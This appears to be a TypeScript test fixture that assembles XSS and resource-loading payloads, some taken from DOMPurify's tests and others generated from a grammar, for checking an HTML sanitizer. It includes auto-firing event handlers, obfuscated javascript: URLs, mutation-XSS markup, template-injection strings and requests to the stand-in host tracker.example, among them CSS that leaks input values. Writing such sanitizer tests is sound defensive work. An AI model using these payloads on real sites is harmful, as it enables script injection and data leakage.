/**
 * What people write into pages and files to run, load or report something, each by itself: those of
 * DOMPurify's tests (vendor/README.md), and more made here from a grammar. Each of the latter calls
 * `hacked()` if it runs, and asks `tracker.example` if it loads.
 */
import { readFileSync } from 'node:fs';

export const ELSEWHERE = 'http://tracker.example';
const RUN = 'hacked()';
const at = (path: string) => `${ELSEWHERE}/${path}`;

const vendored = JSON.parse(
	readFileSync(new URL('vendor/dompurify-payloads.json', import.meta.url), 'utf8'),
) as readonly string[];

/** Handlers, each on an element that fires it without anybody's doing, or nearly so. */
const handlers = (): string[] => {
	const anywhere = [
		...['click', 'mouseover', 'mouseenter', 'pointerenter', 'focus', 'focusin', 'keydown', 'copy'],
		...[
			'animationstart',
			'animationend',
			'transitionend',
			'beforematch',
			'scroll',
			'wheel',
			'drag',
		],
		...['contextmenu', 'selectstart', 'beforeinput', 'securitypolicyviolation', 'scrollsnapchange'],
	];
	const own: readonly [string, string][] = [
		['img src=x', 'error'],
		['img src=data:,', 'load'],
		['body', 'load'],
		['body', 'pageshow'],
		['body', 'hashchange'],
		['svg', 'load'],
		['video src=x', 'error'],
		['audio src=x', 'error'],
		['video autoplay src=x', 'canplay'],
		['source src=x', 'error'],
		['track src=x default', 'error'],
		['script src=x', 'error'],
		['link rel=stylesheet href=x', 'error'],
		['style', 'load'],
		['iframe', 'load'],
		['object data=x', 'error'],
		['embed src=x', 'load'],
		['input autofocus', 'focus'],
		['select autofocus', 'focus'],
		['textarea autofocus', 'focus'],
		['details open', 'toggle'],
		['marquee', 'start'],
		['dialog open', 'close'],
		['form', 'submit'],
		['frameset', 'load'],
		['math', 'click'],
		['svg><animate attributeName=x dur=1s', 'begin'],
		['svg><set attributeName=x dur=1s', 'end'],
		['template', 'click'],
		['menu', 'beforetoggle'],
	];
	return [
		...anywhere.map((event) => `<b tabindex=0 autofocus on${event}="${RUN}">words</b>`),
		...own.map(([element, event]) => `<${element} on${event}=${RUN}>`),
		...own.map(([element, event]) => `<${element.toUpperCase()}/ON${event}\n=\t'${RUN}'>words`),
	];
};

/** Addresses that are programs, however they are spelt. */
const addresses = (): string[] => {
	const spelt = [
		`javascript:${RUN}`,
		`JaVaScRiPt:${RUN}`,
		`java\tscript:${RUN}`,
		`java\nscript:${RUN}`,
		`\u0001javascript:${RUN}`,
		` javascript:${RUN}`,
		`javascript&colon;${RUN}`,
		`&#106;avascript:${RUN}`,
		`&#x6A&#x61vascript:${RUN}`,
		`vbscript:${RUN}`,
		`data:text/html,<script>${RUN}</script>`,
		`data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
		`view-source:javascript:${RUN}`,
		`blob:${ELSEWHERE}/x`,
		`javascript://example.org/%0a${RUN}`,
		`javascript\u200b:${RUN}`,
	];
	const held: readonly ((address: string) => string)[] = [
		(address) => `<a href="${address}">words</a>`,
		(address) => `<iframe src="${address}"></iframe>`,
		(address) => `<form action="${address}"><button>Go</button></form>`,
		(address) => `<button formaction="${address}">Go</button>`,
		(address) => `<object data="${address}"></object>`,
		(address) => `<svg><a xlink:href="${address}"><text y=20>words</text></a></svg>`,
		(address) => `<math><mi href="${address}">x</mi></math>`,
		(address) => `<base href="${address}//"><a href="x">words</a>`,
		(address) => `[words](${address})`,
	];
	return spelt.flatMap((address) => held.map((hold) => hold(address)));
};

/** Whatever makes a browser ask for something. */
const trackers = (): string[] => [
	`<img src="${at('img')}">`,
	`<img src=x: srcset="${at('srcset')} 2x, ${at('srcset2')} 3x">`,
	`<img loading=lazy src="${at('lazy')}">`,
	`<img src="//tracker.example/relative">`,
	`<img src="http:\\\\tracker.example\\slashes">`,
	`<image src="${at('image')}">`,
	`<picture><source srcset="${at('picture')}"><img></picture>`,
	`<video poster="${at('poster')}" src="${at('video')}" autoplay></video>`,
	`<audio src="${at('audio')}" autoplay></audio>`,
	`<video><track default src="${at('track')}"></video>`,
	`<input type=image src="${at('input')}">`,
	`<body background="${at('background')}">`,
	`<table background="${at('table')}"><td background="${at('td')}">`,
	`<iframe src="${at('iframe')}"></iframe>`,
	`<iframe srcdoc="<img src=${at('srcdoc')}>"></iframe>`,
	`<frameset><frame src="${at('frame')}"></frameset>`,
	`<object data="${at('object')}"></object><embed src="${at('embed')}">`,
	`<applet code="x" codebase="${at('applet')}"></applet>`,
	`<link rel=stylesheet href="${at('css')}">`,
	`<link rel=prefetch href="${at('prefetch')}">`,
	`<link rel=preload as=image href="${at('preload')}">`,
	`<link rel=preload as=image imagesrcset="${at('preloadset')}">`,
	`<link rel=modulepreload href="${at('module')}">`,
	`<link rel=prerender href="${at('prerender')}">`,
	`<link rel=preconnect href="${ELSEWHERE}">`,
	`<link rel=dns-prefetch href="//tracker.example">`,
	`<link rel=icon href="${at('icon')}"><link rel=manifest href="${at('manifest')}">`,
	`<link rel="alternate stylesheet" href="${at('alternate')}">`,
	`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at('rules')}"]}]}</script>`,
	`<script src="${at('script')}"></script>`,
	`<script type=importmap>{"imports":{"x":"${at('map')}"}}</script>`,
	`<meta http-equiv=refresh content="0;url=${at('refresh')}">`,
	`<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
	`<meta http-equiv=Content-Security-Policy content="report-uri ${at('report')}; img-src 'none'"><img src=y>`,
	`<base href="${ELSEWHERE}/"><img src="base">`,
	`<a href="${at('a')}" ping="${at('ping')}">words</a>`,
	`<a href="${at('prefetched')}" rel=prefetch>words</a>`,
	`<style>@import "${at('import')}";</style>`,
	`<style>@font-face{font-family:x;src:url(${at('font')})}*{font-family:x}</style>`,
	`<style>body{background:url(${at('style')})}</style>`,
	`<style>input[value^=a]{background:image-set("${at('leak')}" 1x)}</style><input value=a>`,
	`<style>:root{--x:url(${at('custom')})}*{background:var(--x)}</style>`,
	`<style>li{list-style:url(${at('list')})}q::before{content:url(${at('content')})}</style>`,
	`<style>*{cursor:url(${at('cursor')}),auto;border-image:url(${at('border')});mask:url(${at('mask')})}</style>`,
	`<p style="background:url(${at('inline')})">words</p>`,
	`<p style="background:u\\72l(${at('escaped')})">words</p>`,
	`<p style="behavior:url(${at('behavior')});-moz-binding:url(${at('binding')})">words</p>`,
	`<svg><image href="${at('svg')}"/><use href="${at('use')}#x"/></svg>`,
	`<svg><image xlink:href="${at('xlink')}"/><feImage href="${at('fe')}"/></svg>`,
	`<svg><rect fill="url(${at('fill')}#a)" filter="url(${at('filter')}#b)"/></svg>`,
	`<svg><style>@import url(${at('svgcss')})</style></svg>`,
	`<svg><script href="${at('svgscript')}"/></svg>`,
	`<svg><foreignObject><img src="${at('foreign')}"></foreignObject></svg>`,
	`<svg><animate attributeName=href values="${at('animate')}"/></svg>`,
	`<math><mglyph src="${at('mglyph')}"></math>`,
	`<template><img src="${at('template')}"></template>`,
	`<div><template shadowrootmode=open><img src="${at('shadow')}"></template></div>`,
	`<noscript><img src="${at('noscript')}"></noscript>`,
	`<portal src="${at('portal')}"></portal><fencedframe src="${at('fenced')}">`,
	`<form action="${at('form')}"><input name=q value=secret autofocus></form>`,
	`<button popovertarget=x formaction="${at('popover')}">Go</button>`,
	`<blockquote cite="${at('cite')}">words</blockquote><q cite="${at('q')}">words</q>`,
	`<html manifest="${at('appcache')}"><head profile="${at('profile')}">`,
	`<?xml-stylesheet href="${at('xmlcss')}"?><p>words`,
	`<!DOCTYPE html SYSTEM "${at('dtd')}"><p>words`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "${at('entity')}">]><p>&e;`,
	`<!DOCTYPE x [<!ENTITY % e SYSTEM "${at('parameter')}">%e;]><p>words`,
	`<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${at('xinclude')}"/></x>`,
	`![words](${at('markdown')})`,
	`![words][x]\n\n[x]: ${at('reference')}`,
	`<${at('autolink')}>`,
	`@import url(${at('plain')});`,
];

/** Markup that one parser reads otherwise than the next. */
const mutations = (): string[] => {
	const inside = `<img src=x onerror=${RUN}>`;
	const wraps = [
		...[
			'noscript',
			'style',
			'title',
			'textarea',
			'xmp',
			'noembed',
			'noframes',
			'iframe',
			'plaintext',
		],
		...[
			'template',
			'select',
			'option',
			'table',
			'colgroup',
			'caption',
			'math',
			'svg',
			'desc',
			'mtext',
		],
		...[
			'annotation-xml',
			'foreignObject',
			'mglyph',
			'malignmark',
			'p',
			'form',
			'a',
			'nobr',
			'button',
		],
	];
	return [
		...wraps.map((name) => `<${name}><p title="</${name}>${inside}">words</p></${name}>`),
		...wraps.map((name) => `<svg><${name}><style><!--</style>${inside}--></${name}></svg>`),
		...wraps.map(
			(name) => `<math><mtext><table><mglyph><style><${name}>${inside}</${name}></table>`,
		),
		`<!--><script>${RUN}</script>-->`,
		`<!--!><script>${RUN}</script>-->`,
		`<!-- --!><script>${RUN}</script>`,
		`<![CDATA[><script>${RUN}</script>]]>`,
		`<svg><![CDATA[</svg>${inside}]]>`,
		`<<script>${RUN}//<</script>`,
		`<scr<script>ipt>${RUN}</scr</script>ipt>`,
		`<script\u0000>${RUN}</script>`,
		`<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
		`<script x>${RUN}</script\n>`,
		`<script/x/y>${RUN}</script/z>`,
		`&lt;script&gt;${RUN}&lt;/script&gt;`,
		`&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
		`\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
		`%3Cscript%3E${RUN}%3C/script%3E`,
		`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
		`＜script＞${RUN}＜/script＞`,
		`"><script>${RUN}</script>`,
		`'><svg onload=${RUN}>`,
		`\`><img src=\`x\`onerror=${RUN}>`,
		`";${RUN};"`,
		`\${${RUN}}`,
		`{{constructor.constructor('${RUN}')()}}`,
		`{@html '<img src=x onerror=${RUN}>'}`,
		`<svelte:head><script>${RUN}</script></svelte:head>`,
		`</title><script>${RUN}</script>`,
		`</textarea><script>${RUN}</script>`,
		`</script><script>${RUN}</script>`,
		`]]><script>${RUN}</script>`,
		`<a id=document name=body><form name=getElementById><input name=attributes>`,
		`<img name=currentScript><form id=app><input id=children></form>`,
		`<iframe name=__proto__></iframe><a id=hasOwnProperty>`,
		`<p is="x-y" slot=s part=p data-sveltekit-reload data-sveltekit-preload-code=eager>words</p>`,
		`<a href="#" data-sveltekit-preload-data="eager" target=_blank>words</a>`,
		`<script type="application/ld+json">{"headline":"</script><script>${RUN}</script>"}</script>`,
		`<script type="application/ld+json">{"@type":"NewsArticle","url":"javascript:${RUN}","image":"${at('ld')}","headline":"<img src=x onerror=${RUN}>"}</script>`,
		`<meta property="og:url" content="javascript:${RUN}"><meta property="og:image" content="${at('og')}">`,
		`<meta property="og:title" content="&lt;img src=x onerror=${RUN}&gt;">`,
		`<link rel=canonical href="javascript:${RUN}">`,
	];
};

export const own: readonly string[] = [
	...handlers(),
	...addresses(),
	...trackers(),
	...mutations(),
];

export const payloads: readonly string[] = [...new Set([...vendored, ...own])];
